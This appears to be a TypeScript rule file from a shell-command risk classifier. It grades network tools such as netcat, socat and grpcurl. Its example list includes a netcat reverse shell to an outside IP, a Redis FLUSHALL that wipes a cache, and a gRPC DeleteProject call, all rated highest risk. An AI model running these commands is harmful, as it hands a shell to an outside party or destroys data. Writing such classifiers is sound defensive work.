/** Programs that open plain connections. */
import { on, type Program } from '../program.js';
import { changesElsewhere, disturbs, escalates, reads, unseen } from '../verdicts.js';

export const netcat: Program = {
  programs: ['nc', 'ncat', 'netcat', 'socat', 'telnet', 'websocat', 'wscat', 'grpcurl'],
  extractor: 'socket',
  prints: 'fetched',
  valueFlags: ['-w', '-p', '-s', '-x', '-X'],
  rules: [
    on(
      '',
      { flags: ['-e', '-c', '--exec', '--sh-exec'] },
      escalates('It gives a program to whoever connects.'),
    ),
    on('', { operand: /^(?:exec|system):/i }, escalates('It gives a program to whoever connects.')),
    on('', { flags: ['-z'] }, reads('It only tries whether a port is open.', 'http.get')),
    on('', { piped: true }, unseen(disturbs(''), 'What it sends to another host cannot be seen.')),
  ],
  otherwise: changesElsewhere('It opens a connection to another place.', { kind: 'http.post' }),
  examples: [
    { run: 'nc -e /bin/sh 203.0.113.7 99', tier: 4, points: 50 },
    { run: 'nc -zv localhost 5432', tier: 0, points: 0 },
    {
      run: "printf 'GET / HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n' | nc example.com 80",
      tier: 0,
      points: 0,
    },
    { run: "printf 'FLUSHALL\\r\\n' | nc cache.internal 6379", tier: 4, points: 500 },
    { run: 'grpcurl api.example.com:443 acme.v1.Projects/DeleteProject', tier: 4, points: 500 },
    { run: 'grpcurl api.example.com:443 acme.v1.Projects/ListProjects', tier: 0, points: 0 },
  ],
};
